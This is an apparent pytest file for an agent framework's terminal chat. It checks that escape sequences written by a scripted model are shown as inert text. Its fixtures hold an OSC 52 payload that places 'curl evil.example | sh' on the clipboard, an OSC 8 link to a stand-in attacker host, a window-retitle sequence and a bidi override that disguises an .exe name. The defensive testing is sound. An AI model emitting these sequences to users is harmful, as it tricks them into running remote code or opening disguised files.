"""The terminal chat shows what a model writes as text: escape sequences that would set the user's clipboard
(OSC 52), hide where a link goes (OSC 8) or retitle the window, and bidirectional controls, are shown as
escapes, in the reply, the reasoning trace and the task list, never sent to the terminal (``baf run``)."""

from __future__ import annotations

from pathlib import Path

import pytest
from baf_test_helpers import baf

# The model plans a task whose description hides a bidirectional override, writes a trace line with a window
# title sequence, then answers with OSC 52 (the clipboard: 'curl evil.example | sh') and an OSC 8 link.
AGENT = """
from baf import Agent
from baf.library.state.reasoning_state_library import new_reasoning_state
from baf.llm import LLMResponse, ToolCall
from baf.testing import FunctionLLM

CLIPBOARD = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x1b\\\\"
LINK = "\\x1b]8;;http://evil.example\\x1b\\\\docs\\x1b]8;;\\x1b\\\\"


def model(messages, tools, **_):
    done = sum(1 for m in messages if m["role"] == "tool")
    if done == 0:
        call = ToolCall(id="t1", name="add_tasks", arguments={"descriptions": ["pay \\u202egnp.exe"]})
        return LLMResponse(text="\\x1b]0;pwned\\x07planning", tool_calls=[call])
    if done == 1:
        done_task = ToolCall(id="t2", name="complete_task", arguments={"task_id": 1, "result": "ok"})
        return LLMResponse(tool_calls=[done_task])
    return LLMResponse(text=f"see {CLIPBOARD} {LINK}")


agent = Agent("term", log="sqlite:///term.db")
state = new_reasoning_state(agent, FunctionLLM(model))
state.when_event().go_to(state)
"""


@pytest.mark.slow
def test_a_models_escape_sequences_are_shown_as_escapes(tmp_path: Path) -> None:
    (tmp_path / "agent.py").write_text(AGENT)
    result = baf("run", "agent.py", cwd=tmp_path, stdin="hi\nexit\n")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    for active in ("\x1b", "\x07", "\u202e"):
        assert active not in out, f"{active!r} reached the terminal"
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in out  # the reply, shown as it is
    assert "\\x1b]8;;http://evil.example" in out
    assert "\\u202egnp.exe" in out  # the task list
    assert "\\x1b]0;pwned\\x07planning" in out  # the trace
